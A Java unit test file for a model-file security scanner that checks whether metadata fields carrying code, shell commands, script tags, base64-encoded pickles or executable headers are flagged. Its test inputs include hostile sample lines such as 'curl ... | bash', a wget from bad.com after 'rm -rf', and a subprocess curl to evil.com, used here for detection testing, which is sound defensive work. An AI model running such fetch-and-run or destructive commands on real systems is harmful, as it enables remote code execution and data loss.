package io.modelvet.formats.common;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.engine.Head;
import io.modelvet.engine.ScanContext;
import io.modelvet.engine.ScanEngine;
import io.modelvet.engine.ScanOptions;
import io.modelvet.engine.Scanner;
import io.modelvet.io.ArrayByteSource;
import io.modelvet.report.FileResult;
import io.modelvet.report.Finding;
import io.modelvet.report.Severity;
import java.nio.charset.StandardCharsets;
import io.modelvet.testutil.PickleBytes;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

class PayloadChecksTest {
  /** Runs PayloadChecks.checkString on the whole content as if it were one metadata field. */
  static final class FieldScanner implements Scanner {
    public String format() { return "field"; }
    public int sniff(Head h) { return 50; }
    public void scan(ScanContext ctx) throws java.io.IOException {
      String s = new String(ctx.source().readFully(0, (int) ctx.source().size()), StandardCharsets.UTF_8);
      if (ctx.depth() == 0) PayloadChecks.checkString(ctx, s, "metadata 'x'", 8);
    }
  }

  private static List<FileResult> scan(String field) {
    return new ScanEngine(List.of(new FieldScanner()), ScanOptions.defaults()).scan("f", new ArrayByteSource(field.getBytes(StandardCharsets.UTF_8)));
  }

  private static List<String> rules(String field) {
    return scan(field).get(0).findings().stream().map(Finding::ruleId).toList();
  }

  @Test
  void flagsCodeAndShellCommandsInFields() {
    assertThat(rules("import os; os.system('echo pwned')")).contains("payload.code-in-text");
    assertThat(rules("import subprocess; subprocess.call(['curl', 'http://evil.com'])")).contains("payload.code-in-text");
    assertThat(rules("import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))")).contains("payload.code-in-text");
    assertThat(rules("rm -rf /tmp/test && wget http://bad.com/script.sh")).contains("payload.shell-command");
    assertThat(rules("curl -s https://x.example/i.sh | bash")).contains("payload.shell-command");
    assertThat(rules("<script>alert(1)</script>")).containsExactly("payload.script-markup");
    assertThat(scan("import os; os.system('id')").get(0).worst()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void ordinaryMetadataStaysQuiet() {
    for (String benign : List.of("A small transformer model for text classification", "MIT", "94.5%",
        "Call model.eval() before inference", "torch.compile(model) speeds this up", "https://huggingface.co/bert-base-uncased",
        "Evaluation (eval) accuracy: 0.91", "pt", "{\"format\": \"pt\"}")) {
      assertThat(rules(benign)).as(benign).isEmpty();
    }
  }

  @Test
  void encodedPicklesAreScannedAsMembers() {
    // builtins.print('hi') as protocol 4: a complete program of 10 opcodes
    byte[] pickle = PickleBytes.of("80 04 8c 08 'builtins' 94 8c 05 'print' 94 93 8c 02 'hi' 85 52 2e");
    List<FileResult> rs = scan(Base64.getEncoder().encodeToString(pickle));
    assertThat(rs.get(0).findings()).extracting(Finding::ruleId).contains("payload.embedded-pickle");
    assertThat(rs).hasSize(2);
    assertThat(rs.get(1).path()).startsWith("f!/metadata");
  }

  @Test
  void aTrivialPickleHeaderIsNotProofOfAProgram() {
    // PROTO, one string, STOP: three opcodes, the shape random bytes reach about once in 10^9 operands
    byte[] trivial = PickleBytes.of("80 04 8c 19 'a harmless looking string' 2e");
    assertThat(scan(Base64.getEncoder().encodeToString(trivial))).hasSize(1);
    assertThat(rules(Base64.getEncoder().encodeToString(trivial))).doesNotContain("payload.embedded-pickle");
  }

  @Test
  void recognisesExecutableHeaders() {
    assertThat(PayloadChecks.executableKind(new byte[] {0x7f, 'E', 'L', 'F', 2, 1})).isEqualTo("ELF executable");
    byte[] pe = new byte[0x90];
    pe[0] = 'M'; pe[1] = 'Z'; pe[0x3c] = (byte) 0x80; pe[0x80] = 'P'; pe[0x81] = 'E';
    assertThat(PayloadChecks.executableKind(pe)).startsWith("PE");
    byte[] mzText = "MZ is a postcode prefix and this is plain text of sufficient length to exceed 64 bytes.".getBytes(StandardCharsets.US_ASCII);
    assertThat(PayloadChecks.executableKind(mzText)).isNull();
    assertThat(PayloadChecks.executableKind("#!/bin/sh\necho".getBytes(StandardCharsets.US_ASCII))).contains("script");
  }
}
